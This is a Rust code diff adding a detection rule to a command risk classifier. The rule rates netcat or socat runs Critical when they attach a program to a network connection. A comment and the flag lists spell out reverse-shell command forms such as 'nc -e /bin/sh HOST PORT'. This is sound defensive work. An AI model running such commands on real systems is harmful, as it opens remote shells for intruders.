@@ -47,6 +47,27 @@ pub(super) fn network(input: &Input<'_>) -> Verdict {
     let p = input.program;
     let mut v = Verdict::new(Risk::High, format!("Runs {p}, which talks to the network."));
     let args = input.args;
+    // `nc -e /bin/sh HOST PORT`, `socat TCP:HOST:PORT EXEC:sh`: a program whose input
+    // and output are the connection runs whatever the other end sends.
+    let connects_a_program = match p {
+        "nc" | "ncat" | "netcat" => args.iter().any(|a| {
+            matches!(
+                a.text.as_str(),
+                "-e" | "-c" | "--exec" | "--sh-exec" | "--lua-exec"
+            )
+        }),
+        "socat" => args.iter().any(|a| {
+            let t = a.text.to_ascii_uppercase();
+            t.starts_with("EXEC:") || t.starts_with("SYSTEM:")
+        }),
+        _ => false,
+    };
+    if connects_a_program {
+        v.raise(
+            Risk::Critical,
+            format!("Runs {p} with a program connected to the network, which runs whatever the other end sends."),
+        );
+    }
     if matches!(p, "rsync" | "scp") {
         copy_destination(&mut v, input);
     }
